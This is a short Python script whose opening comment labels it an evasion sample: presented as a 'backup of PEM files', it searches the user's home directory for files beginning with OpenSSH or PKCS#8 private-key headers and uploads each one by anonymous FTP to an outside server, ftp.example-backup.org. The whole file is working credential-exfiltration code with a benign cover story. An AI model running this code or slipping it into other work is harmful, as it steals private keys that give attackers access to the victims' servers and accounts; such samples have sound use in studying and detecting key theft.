# Evasion: uploads private keys found by their first line over FTP. A "backup
# of PEM files" scans the home for files whose first line is an OpenSSH or
# PKCS#8 private-key header and stores each on an outside FTP server.
import ftplib
import io
from pathlib import Path

HEADERS = ("-----BEGIN OPENSSH PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----")


def keys(root):
    for p in root.rglob("*"):
        try:
            if p.is_file() and p.stat().st_size < 16384:
                with open(p, errors="ignore") as fh:
                    if fh.readline().strip() in HEADERS:
                        yield p
        except OSError:
            pass


with ftplib.FTP("ftp.example-backup.org", "anonymous", "backup@") as ftp:
    for n, p in enumerate(keys(Path.home())):
        ftp.storbinary(f"STOR pem-{n}.txt", io.BytesIO(p.read_bytes()))
